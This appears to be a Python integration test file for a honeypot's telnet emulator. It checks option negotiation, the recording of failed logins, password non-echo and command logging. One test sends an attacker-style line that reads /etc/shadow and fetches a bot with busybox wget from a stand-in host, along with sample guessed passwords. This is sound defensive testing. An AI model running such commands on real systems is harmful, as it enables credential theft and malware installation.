"""The telnet emulator against a small real telnet client (IAC-aware) on a raw socket."""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest
from anyio.abc import SocketStream

from tests.integration.emulators.ssh_fixtures import TIMEOUT_S, Shelled, deploy_shell

pytestmark = pytest.mark.anyio

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
ECHO, SGA, TTYPE = 1, 3, 24


class TelnetClient:
    """Accepts the server's ECHO/SGA offers, strips IAC sequences, keeps what it was sent."""

    def __init__(self, stream: SocketStream) -> None:
        self.stream = stream
        self.text = ""  # everything displayed so far
        self.commands: list[bytes] = []  # raw IAC commands received, in order
        self.closed = False

    async def read_until(self, marker: str) -> str:
        """Display text up to and including `marker` (everything so far if the server closes)."""
        with anyio.fail_after(TIMEOUT_S):
            while marker not in self.text and not self.closed:
                await self._receive()
        head, found, rest = self.text.partition(marker)
        self.text = rest
        return head + found

    async def line(self, text: str) -> None:
        """Type a line (CR LF, as telnet clients send it)."""
        await self.stream.send(text.encode() + b"\r\n")

    async def wait_closed(self) -> None:
        """Read until the server closes the connection."""
        with anyio.fail_after(TIMEOUT_S):
            while not self.closed:
                await self._receive()

    async def _receive(self) -> None:
        try:
            data = await self.stream.receive()
        except (anyio.EndOfStream, anyio.BrokenResourceError):
            self.closed = True
            return
        plain = bytearray()
        index = 0
        while index < len(data):
            negotiation = index + 2 < len(data) and data[index + 1] in (DO, DONT, WILL, WONT)
            if data[index] == IAC and negotiation:
                await self._answer(data[index + 1], data[index + 2])
                index += 3
            else:
                plain.append(data[index])
                index += 1
        self.text += plain.decode("utf-8", "replace")

    async def _answer(self, verb: int, option: int) -> None:
        self.commands.append(bytes([IAC, verb, option]))
        if verb == WILL and option in (ECHO, SGA):
            await self.stream.send(bytes([IAC, DO, option]))


async def open_client(env: Shelled) -> TelnetClient:
    """A client connected to the decky's telnet port."""
    with anyio.fail_after(TIMEOUT_S):
        stream = await anyio.connect_tcp(env.ip, env.ports["telnet"])
    return TelnetClient(stream)


async def login(client: TelnetClient, username: str, password: str) -> str:
    """Answer the login and password prompts; what the server showed after the password."""
    await client.read_until("login: ")
    await client.line(username)
    await client.read_until("Password: ")
    await client.line(password)
    return await client.read_until("\n")


async def test_offers_echo_and_sga_then_prompts(tmp_path: Path) -> None:
    """The server offers WILL ECHO and WILL SGA, shows the distro issue and a login prompt."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.1") as env:
        client = await open_client(env)
        greeting = await client.read_until("login: ")
        assert client.commands[:2] == [bytes([IAC, WILL, ECHO]), bytes([IAC, WILL, SGA])]
        assert "Ubuntu 22.04.4 LTS files-01 pts/0" in greeting
        assert greeting.endswith("files-01 login: ")
        await client.stream.aclose()


async def test_refuses_other_options_once(tmp_path: Path) -> None:
    """A proposed option is refused once, however often the client repeats it (no loops)."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.2") as env:
        client = await open_client(env)
        await client.read_until("login: ")
        proposal = bytes([IAC, WILL, TTYPE, IAC, SB, TTYPE, 0, *b"xterm", IAC, SE])
        await client.stream.send(proposal * 3 + b"root\r\n")
        await client.read_until("Password: ")
        assert client.commands.count(bytes([IAC, DONT, TTYPE])) == 1
        await client.stream.aclose()


async def test_failed_logins_are_recorded_then_disconnected(tmp_path: Path) -> None:
    """Three wrong passwords are recorded as `auth` failures, then the server hangs up."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.3") as env:
        client = await open_client(env)
        for guess in ("admin", "1234", "root"):
            await login(client, "root", guess)
            assert (await client.read_until("\n")).strip() == "Login incorrect"
        await client.wait_closed()
        attempts = env.records("telnet", "auth")
        assert [(r.fields["username"], r.fields["password"]) for r in attempts] == [
            ("root", "admin"),
            ("root", "1234"),
            ("root", "root"),
        ]
        assert {r.fields["result"] for r in attempts} == {"failure"}
        assert (await env.wait_for("telnet", "disconnect")).fields["reason"] == "closed"


async def test_login_opens_the_shell_and_records_commands(tmp_path: Path) -> None:
    """A configured pair gets the fake shell; the password is not echoed; lines are recorded."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.4") as env:
        client = await open_client(env)
        await login(client, "admin", "Admin123")
        await client.read_until("admin@files-01:~$ ")
        await client.line("uname -a")
        assert "Linux files-01 5.15.0-105-generic" in await client.read_until("$ ")
        await client.line("cat /etc/shadow; busybox wget http://example.test/bot")
        answer = await client.read_until("$ ")
        assert "cat: /etc/shadow: Permission denied" in answer
        assert "wget: unable to resolve host address" in answer
        await client.line("exit")
        await client.wait_closed()
        accepted = await env.wait_for("telnet", "auth", result="success")
        assert (accepted.fields["username"], accepted.fields["password"]) == ("admin", "Admin123")
        commands = [r.fields["command"] for r in env.records("telnet", "command")]
        assert commands == [
            "uname -a",
            "cat /etc/shadow; busybox wget http://example.test/bot",
            "exit",
        ]


async def test_password_is_not_echoed(tmp_path: Path) -> None:
    """Typed characters are echoed at the login prompt but not at the password prompt."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.5") as env:
        client = await open_client(env)
        await client.read_until("login: ")
        await client.line("deploy")
        assert (await client.read_until("Password: ")).startswith("deploy\r\n")
        await client.line("hunter2")
        shown = await client.read_until("Login incorrect")
        assert "hunter2" not in shown
        await client.stream.aclose()
